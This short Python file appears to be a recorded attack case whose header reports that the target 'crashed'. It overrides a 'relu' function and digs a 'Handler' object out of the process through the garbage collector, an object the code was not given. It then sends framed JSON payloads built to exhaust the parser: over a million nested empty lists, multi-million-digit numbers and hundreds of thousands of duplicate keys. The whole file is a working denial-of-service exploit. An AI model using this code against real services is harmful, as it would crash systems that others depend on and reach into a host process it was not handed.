# Attack: a reply that is small to send and large to read: millions of empty lists, long numbers, repeated keys
# Outcome: crashed
import gc
import struct

handler = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Handler")
texts = (
    b"[" + b"[]," * 1_300_000 + b"[]]",
    b'["l",[' + b"9" * 3_900_000 + b"]]",
    b"9" * 3_900_000,
    b"{" + b'"a":1,' * 600_000 + b'"a":1}',
)
turn = 0


def relu(x):
    global turn
    text = texts[turn % len(texts)] if x.size else texts[0]
    turn += 1
    handler.send(struct.pack(">4sIQ", b"cnt1", len(text), 0) + text)
    return x
